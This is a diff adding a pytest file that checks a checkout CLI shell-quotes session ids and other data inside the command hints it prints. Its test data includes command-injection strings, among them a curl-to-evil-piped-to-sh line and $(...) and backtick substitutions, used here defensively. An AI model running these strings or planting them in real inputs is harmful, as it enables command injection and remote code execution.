@@ -1,0 +1,59 @@
+"""Commands that are printed to be typed are quoted, or not printed."""
+
+from __future__ import annotations
+
+import shlex
+from pathlib import Path
+
+import pytest
+
+from checkout_cli.store.checkout_store import CheckoutStore
+from checkout_cli.typed import typed
+from tests.support.command import Checkoutctl
+
+HOSTILE = [
+    "x;curl evil|sh;",
+    "$(touch P)",
+    "`touch P`",
+    "a b",
+    "it's",
+    "*",
+    "~root",
+    "",
+    "a\\",
+    "{}",
+    "-rf",
+    "--reveal",
+]
+
+
+@pytest.mark.parametrize("data", HOSTILE)
+def test_a_shell_hands_on_what_was_meant(data: str) -> None:
+    words = shlex.split(typed("checkoutctl sessions show {}", data))
+    assert words[:3] == ["checkoutctl", "sessions", "show"]
+    assert words[3:] == (["--", data] if data.startswith("-") else [data])
+    option = "--cursor={}" if data.startswith("-") else "--cursor {}"
+    assert shlex.split(typed("x --cursor {} {}", data, "1")) == ["x", *option.format(data).split(" ", 1), "1"]
+
+
+@pytest.mark.parametrize("data", ["a\nb", "\x1b[2J", "\u202etxt", "\udcff", "\0"])
+def test_what_cannot_be_typed_is_no_command(data: str) -> None:
+    assert typed("checkoutctl sessions show {}", data) == ""
+
+
+@pytest.mark.parametrize("checkout_id", ["x;touch P;12345", "$(touch P)", "-n-n-n-n", "a b c d e"])
+def test_why_names_a_strangers_id_so_that_it_can_be_typed(
+    checkout_id: str, store: CheckoutStore, checkoutctl: Checkoutctl, tmp_path: Path
+) -> None:
+    store.redis.ask(("SET", f"checkout:session:{checkout_id}", b"no session", "EX", 600))
+    run = checkoutctl("sessions", "why", "--", checkout_id)
+    hint = run.stderr.split("next: ")[1].splitlines()[0]
+    words = shlex.split(hint)
+    assert words[:2] == ["checkoutctl", "sessions"]
+    assert words[-1] == checkout_id
+    assert ("--" in words) is checkout_id.startswith("-")
+
+
+def test_a_line_break_in_an_id_makes_no_command(store: CheckoutStore, checkoutctl: Checkoutctl) -> None:
+    store.redis.ask(("SET", "checkout:session:a\nb", b"no session", "EX", 600))
+    assert "next:" not in checkoutctl("sessions", "why", "a\nb").stderr
